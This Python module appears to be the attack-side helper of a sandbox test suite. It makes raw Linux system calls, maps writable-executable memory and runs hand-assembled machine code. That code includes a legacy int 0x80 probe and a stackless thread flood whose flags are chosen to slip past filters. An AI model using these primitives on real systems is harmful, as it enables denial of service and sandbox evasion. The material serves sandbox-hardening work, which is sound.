"""What an attack needs below Python: raw system calls and machine code, for Linux on x86-64."""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
from collections.abc import Callable, Iterator

LIBC = ctypes.CDLL(None, use_errno=True)

#: System calls by name; those that Python or libc offer are called through them.
NUMBERS = {
    "rt_sigqueueinfo": 129, "personality": 135, "vhangup": 153, "modify_ldt": 154, "pivot_root": 155, "adjtimex": 159,
    "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "reboot": 169, "iopl": 172,
    "ioperm": 173, "init_module": 175, "quotactl": 179, "readahead": 187, "tkill": 200, "io_setup": 206,
    "lookup_dcookie": 212, "remap_file_pages": 216, "timer_create": 222, "clock_settime": 227, "mbind": 237,
    "mq_open": 240, "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "ioprio_set": 251,
    "inotify_init": 253, "migrate_pages": 256, "unshare": 272, "get_robust_list": 274, "splice": 275, "tee": 276,
    "vmsplice": 278, "move_pages": 279, "signalfd": 282, "timerfd_create": 283, "perf_event_open": 298,
    "fanotify_init": 300, "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310, "process_vm_writev": 311,
    "kcmp": 312, "finit_module": 313, "seccomp": 317, "memfd_create": 319, "bpf": 321, "execveat": 322,
    "userfaultfd": 323, "pkey_alloc": 330, "pidfd_send_signal": 424, "io_uring_setup": 425, "open_tree": 428,
    "move_mount": 429, "fsopen": 430, "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "process_madvise": 440,
    "mount_setattr": 442, "landlock_create_ruleset": 444, "memfd_secret": 447, "shmget": 29, "shmat": 30, "shmctl": 31,
    "semget": 64, "semctl": 66, "msgget": 68, "msgctl": 71, "ptrace": 101, "syslog": 103, "setfsuid": 122,
    "capset": 126, "prctl": 157, "mq_unlink": 241, "rt_tgsigqueueinfo": 297, "sched_setattr": 314,
    "tgkill": 234,
}  # fmt: skip


def call(name: str, *arguments: object) -> int:
    """Make a system call; what the kernel refuses is an OSError."""
    values = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    result = int(LIBC.syscall(ctypes.c_long(NUMBERS[name]), *values))
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


_code: list[mmap.mmap] = []


def bring_code_page() -> None:
    """Map a page that can be written and executed, before anybody forbids it."""
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS  # a shared one would be a way from one submission to the next
    _code.append(mmap.mmap(-1, mmap.PAGESIZE, flags=flags, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC))


def execute(code: bytes) -> int:
    """Run machine code as a function without arguments that returns a 64-bit integer."""
    _code[0].seek(0)
    _code[0].write(code)
    return int(ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(_code[0])))())


def legacy_getpid() -> int:
    """``getpid`` through the 32-bit entrance of a 64-bit kernel, where system calls have other numbers."""
    return execute(b"\x53" + b"\xb8\x14\x00\x00\x00" + b"\xcd\x80" + b"\x5b" + b"\x48\x98" + b"\xc3")


def bare_threads(wanted: int) -> int:
    """Start threads that own no stack and wait for ever: only a limit on tasks can stop them. Returns how many started."""
    word = ctypes.create_string_buffer(8)
    flags = 0x3D0F00  # exactly those of a thread of the C library: a filter can tell no difference
    sleep = (
        b"\x48\xbf" + struct.pack("<Q", ctypes.addressof(word))  # mov rdi, word
        + b"\xb8\xca\x00\x00\x00" + b"\x31\xf6\x31\xd2\x4d\x31\xd2" + b"\x0f\x05"  # futex(word, FUTEX_WAIT, 0, no timeout)
    )  # fmt: skip
    sleep += b"\xeb" + struct.pack("b", -(len(sleep) + 2))
    start = (
        b"\xb8\x38\x00\x00\x00" + b"\xbf" + struct.pack("<I", flags) + b"\x31\xf6\x31\xd2\x4d\x31\xd2\x4d\x31\xc0"
        + b"\x0f\x05" + b"\x48\x85\xc0"  # clone(flags); test rax, rax
    )  # fmt: skip
    count = (
        b"\x78\x0c" + b"\x48\xff\xc3" + b"\x48\x81\xfb" + struct.pack("<i", wanted)[:4]
    )  # js done; inc rbx; cmp rbx, n
    body = start + b"\x74" + bytes([len(count) + 2 + 5]) + count
    body += b"\x7c" + struct.pack("b", -(len(body) + 2))  # jl start
    return execute(b"\x53\x31\xdb" + body + b"\x48\x89\xd8\x5b\xc3" + sleep)


def successes(*trials: tuple[str, Callable[[], object]]) -> Iterator[str]:
    """Yield the names of the trials that the system did not refuse."""
    for name, action in trials:
        try:
            action()
        except OSError:
            continue
        yield name


def in_fork(action: Callable[[], object]) -> None:
    """Run the action in a forked process that then ends, and wait for it."""
    if (child := os.fork()) == 0:
        action()
        os._exit(0)
    os.waitpid(child, 0)
